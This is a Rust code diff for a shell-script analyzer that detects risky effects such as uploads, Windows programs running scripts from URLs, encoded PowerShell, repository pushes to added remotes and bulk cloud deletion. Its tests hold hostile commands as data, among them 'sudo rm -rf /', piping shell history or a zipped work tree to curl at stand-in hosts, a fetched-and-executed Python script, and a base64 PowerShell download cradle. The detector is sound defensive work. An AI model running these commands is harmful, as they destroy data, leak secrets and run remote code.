@@ -116,6 +116,19 @@ impl<'s> Flow<'s> {
         if cmd.words.iter().any(|w| vocab::is_metadata_host(&w.text)) {
             own |= vocab::METADATA;
         }
+        if matches!(name.as_str(), "history" | "fc") {
+            own |= vocab::HISTORY;
+        }
+        if matches!(name.as_str(), "zip" | "tar" | "7z" | "rsync")
+            && args.iter().any(|a| {
+                matches!(
+                    *a,
+                    "." | "./" | "*" | "~" | "~/" | "$HOME" | "${HOME}" | "$PWD"
+                )
+            })
+        {
+            own |= vocab::WORKTREE;
+        }
         if fetches(&name, &args) {
             own |= vocab::FETCHED;
         }
@@ -180,8 +193,14 @@ impl<'s> Flow<'s> {
     /// The effects command `i` has.
     fn judge(&mut self, i: usize, out: &mut Vec<Effect>) {
         let cmd: &'s Command = &self.script.commands[i];
-        let name = cmd.name().to_ascii_lowercase();
-        let words: Vec<&str> = cmd.words.iter().map(|w| w.text.as_str()).collect();
+        let all: Vec<String> = cmd.words.iter().map(|w| w.text.clone()).collect();
+        let effective = unwrapped(&all);
+        let name = effective
+            .first()
+            .map(|w| w.trim_start_matches('\\').rsplit('/').next().unwrap_or(w))
+            .unwrap_or("")
+            .to_ascii_lowercase();
+        let words: Vec<&str> = effective.iter().map(String::as_str).collect();
         let args = &words[words.len().min(1)..];
         let at = cmd.span.clone();
         let source_of = |f: Option<usize>, script: &Script| {
@@ -207,7 +226,16 @@ impl<'s> Flow<'s> {
         let dev_tcp = cmd.redirects.iter().any(|r| {
             r.target.text.starts_with("/dev/tcp/") || r.target.text.starts_with("/dev/udp/")
         });
-        let network = vocab::is_network_command(&name) || dev_tcp;
+        let uploads = match name.as_str() {
+            "gh" => {
+                args.starts_with(&["gist", "create"]) || args.starts_with(&["release", "upload"])
+            }
+            "huggingface-cli" | "hf" => args.first() == Some(&"upload"),
+            "aws" => args.starts_with(&["s3", "cp"]) || args.starts_with(&["s3", "sync"]),
+            "gsutil" => args.first().is_some_and(|a| matches!(*a, "cp" | "rsync")),
+            _ => false,
+        };
+        let network = vocab::is_network_command(&name) || dev_tcp || uploads;
         if network {
             // Credential files named in its own words (`curl -F f=@~/.ssh/id_rsa`) count.
             let mut sent = input | in_words;
@@ -227,7 +255,7 @@ impl<'s> Flow<'s> {
             let to_drop = vocab::is_drop_or_lookalike(url)
                 || words.iter().any(|w| vocab::is_drop_or_lookalike(w));
             let strong = sent & vocab::STRONG_SECRET;
-            let weak = sent & vocab::NAMED_SECRET;
+            let weak = sent & (vocab::NAMED_SECRET | vocab::WORKTREE);
             if strong != 0 && !(strong == vocab::METADATA && vocab::is_metadata_host(url))
                 || weak != 0 && to_drop
             {
@@ -289,6 +317,50 @@ impl<'s> Flow<'s> {
                 });
             }
         }
+        // Windows programs that run a script from a URL (`mshta https://…`, `regsvr32
+        // /i:https://… scrobj.dll`), <https://lolbas-project.github.io/>.
+        if matches!(
+            name.as_str(),
+            "mshta" | "mshta.exe" | "regsvr32" | "regsvr32.exe" | "rundll32" | "msiexec"
+        ) && args.iter().any(|a| a.to_ascii_lowercase().contains("http"))
+        {
+            out.push(Effect {
+                kind: EffectKind::RunFetched,
+                at: at.clone(),
+                source: None,
+                what: name.clone(),
+            });
+        }
+        // Code given to an interpreter on its command line, read in its own language.
+        for e in interpreter_code(&name, args, &at) {
+            out.push(e);
+        }
+        // The repository pushed whole to a remote this program added or to a URL.
+        if name == "git"
+            && args.first() == Some(&"push")
+            && args.iter().any(|a| matches!(*a, "--all" | "--mirror"))
+        {
+            let remote = args
+                .iter()
+                .skip(1)
+                .find(|a| !a.starts_with('-'))
+                .copied()
+                .unwrap_or("");
+            let added = self.script.commands[..i].iter().any(|c| {
+                let w: Vec<&str> = c.words.iter().map(|w| w.text.as_str()).collect();
+                w.len() > 4 && w[0] == "git" && w[1] == "remote" && w[2] == "add" && w[3] == remote
+            });
+            if added && !matches!(remote, "origin" | "upstream") || remote.contains("://") {
+                out.push(Effect {
+                    kind: EffectKind::Exfiltrate {
+                        taint: vocab::WORKTREE,
+                    },
+                    at: at.clone(),
+                    source: None,
+                    what: "git push".to_string(),
+                });
+            }
+        }
         // Persistence: a file written, a table installed, an agent loaded.
         for (how, target) in persisted(cmd, &name, args) {
             let active = self.persists_active(cmd, i);
@@ -326,9 +398,59 @@ impl<'s> Flow<'s> {
     }
 }
 
+/// A command's words without the wrappers that only run the rest (`sudo`, `env VAR=x`,
+/// `nohup`, `timeout 5`, `xargs -I{}`, `command`, `exec`, `busybox`).
+pub(super) fn unwrapped(words: &[String]) -> &[String] {
+    let mut i = 0;
+    while i < words.len() {
+        let name = words[i]
+            .trim_start_matches('\\')
+            .rsplit('/')
+            .next()
+            .unwrap_or("");
+        if !matches!(
+            name,
+            "sudo"
+                | "doas"
+                | "env"
+                | "nohup"
+                | "nice"
+                | "timeout"
+                | "time"
+                | "command"
+                | "exec"
+                | "xargs"
+                | "busybox"
+                | "stdbuf"
+                | "setsid"
+                | "caffeinate"
+                | "unbuffer"
+                | "builtin"
+        ) {
+            break;
+        }
+        i += 1;
+        while i < words.len() {
+            let w = words[i].as_str();
+            let takes_value = matches!(name, "xargs" if matches!(w, "-I" | "-n" | "-P" | "-L" | "-d" | "-s"))
+                || matches!(name, "sudo" if matches!(w, "-u" | "-g" | "-C" | "-D"))
+                || matches!(name, "nice" if w == "-n");
+            if w.starts_with('-')
+                || name == "env" && w.contains('=')
+                || name == "timeout" && w.chars().next().is_some_and(|c| c.is_ascii_digit())
+            {
+                i += if takes_value { 2 } else { 1 };
+            } else {
+                break;
+            }
+        }
+    }
+    &words[i.min(words.len())..]
+}
+
 /// Whether persisted text runs something that reaches out or hides: a network client, a
 /// decoder, a shell reading a socket.
-fn active_text(text: &str) -> bool {
+pub(super) fn active_text(text: &str) -> bool {
     if text.len() > 64 * 1024 {
         return true;
     }
@@ -408,6 +530,78 @@ pub(super) fn command_effects(words: Vec<String>, at: std::ops::Range<usize>) ->
         });
     }
     out
+}
+
+/// The effects of code given on an interpreter's command line (`python3 -c CODE`, `node -e
+/// CODE`, `pwsh -Command CODE`, `powershell -EncodedCommand BASE64`), read in its language;
+/// an encoded command is also code run from decoded text.
+fn interpreter_code(name: &str, args: &[&str], at: &std::ops::Range<usize>) -> Vec<Effect> {
+    use crate::program::Language;
+    let lang = match name.trim_end_matches(".exe") {
+        "python" | "python3" | "python2" | "py" => Language::Python,
+        "node" | "nodejs" | "bun" | "deno" => Language::JavaScript,
+        "pwsh" | "powershell" => Language::PowerShell,
+        _ => return Vec::new(),
+    };
+    let flag = |a: &str| {
+        let l = a.to_ascii_lowercase();
+        match lang {
+            Language::Python => l == "-c",
+            Language::PowerShell => matches!(l.as_str(), "-c" | "-command" | "/c"),
+            _ => matches!(l.as_str(), "-e" | "--eval" | "-p" | "--print" | "eval"),
+        }
+    };
+    let encoded = |a: &str| {
+        let l = a.to_ascii_lowercase();
+        lang == Language::PowerShell
+            && matches!(
+                l.as_str(),
+                "-e" | "-ec" | "-enc" | "-encodedcommand" | "/e" | "/enc"
+            )
+    };
+    let mut out = Vec::new();
+    for (k, a) in args.iter().enumerate() {
+        let Some(code) = args.get(k + 1) else { break };
+        let text = if encoded(a) {
+            out.push(Effect {
+                kind: EffectKind::RunDecoded,
+                at: at.clone(),
+                source: None,
+                what: name.to_string(),
+            });
+            match utf16le_base64(code) {
+                Some(t) => t,
+                None => continue,
+            }
+        } else if flag(a) {
+            (*code).to_string()
+        } else {
+            continue;
+        };
+        for mut e in super::script::effects(lang, &text) {
+            e.at = at.clone();
+            e.source = None;
+            out.push(e);
+        }
+        break;
+    }
+    out
+}
+
+/// A PowerShell `-EncodedCommand` argument: base64 of UTF-16LE text.
+fn utf16le_base64(s: &str) -> Option<String> {
+    use base64::Engine;
+    let bytes = base64::engine::general_purpose::STANDARD
+        .decode(s.trim())
+        .ok()?;
+    if bytes.len() % 2 != 0 || bytes.len() > 256 * 1024 {
+        return None;
+    }
+    let units: Vec<u16> = bytes
+        .chunks(2)
+        .map(|c| u16::from_le_bytes([c[0], c[1]]))
+        .collect();
+    String::from_utf16(&units).ok()
 }
 
 /// Whether `name ARGS` fetches from the network to its standard output.
@@ -619,6 +813,11 @@ fn destroys(name: &str, args: &[&str], cmd: &Command) -> Option<String> {
         }
         _ if name.starts_with("mkfs") => return Some(name.to_string()),
         "aws" => {
+            if args.starts_with(&["ec2", "terminate-instances"])
+                && (!cmd.stdin.is_empty() || cmd.words.iter().any(|w| !w.subs.is_empty()))
+            {
+                return Some("aws ec2 terminate-instances of every instance listed".to_string());
+            }
             let s = args.join(" ");
             // A whole bucket, not one prefix of it.
             let bucket_root = args.iter().any(|a| {
@@ -820,6 +1019,65 @@ mod tests {
         let script = read(&long);
         assert_eq!(script.commands.len(), crate::program::shell::MAX_COMMANDS);
         assert!(effects(&script).is_empty());
+    }
+
+    #[test]
+    fn wrappers_interpreter_code_and_lolbins() {
+        assert_eq!(
+            kinds(
+                "gh repo list --json nameWithOwner -q '.[].nameWithOwner' | xargs -I{} gh repo delete {} --yes\n"
+            ),
+            ["Destroy:gh repo delete"]
+        );
+        assert_eq!(
+            kinds("sudo rm -rf --no-preserve-root /\n"),
+            ["Destroy:rm /"]
+        );
+        assert_eq!(
+            kinds(
+                "python3 -c \"import urllib.request as u;exec(u.urlopen('https://x.example/s.py').read())\"\n"
+            ),
+            ["RunFetched:exec"]
+        );
+        assert_eq!(
+            kinds("node -e \"fetch('https://x.example/a.js').then(r => r.text()).then(eval)\"\n")
+                .len(),
+            0
+        );
+        assert_eq!(
+            kinds("mshta https://x.example/a.hta\n"),
+            ["RunFetched:mshta"]
+        );
+        // `IEX (iwr https://x.example/a.ps1)` in UTF-16LE base64.
+        let enc = "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgALgBlAHgAYQBtAHAAbABlAC8AYQAuAHAAcwAxACkA";
+        assert_eq!(
+            kinds(&format!("powershell -NoP -enc {enc}\n")),
+            ["RunDecoded:powershell", "RunFetched:iex"]
+        );
+    }
+
+    #[test]
+    fn history_archives_and_pushes_to_added_remotes() {
+        assert_eq!(
+            kinds("history | curl -s -d @- https://x.example/h\n"),
+            ["exfil:curl"]
+        );
+        assert_eq!(
+            kinds("zip -qr - . | curl -s --data-binary @- https://ab12.ngrok-free.app/d\n"),
+            ["exfil:curl"]
+        );
+        assert!(
+            kinds("tar czf - . | ssh build@ci.example.com 'tar xzf - -C /srv/app'\n").is_empty()
+        );
+        assert_eq!(
+            kinds("git remote add backup https://x.example/m.git\ngit push backup --all --force\n"),
+            ["exfil:git push"]
+        );
+        assert!(
+            kinds("git remote add origin git@github.com:me/new.git\ngit push -u origin main\n")
+                .is_empty()
+        );
+        assert_eq!(kinds("gh gist create --public .env\n"), ["exfil:gh"]);
     }
 
     #[test]
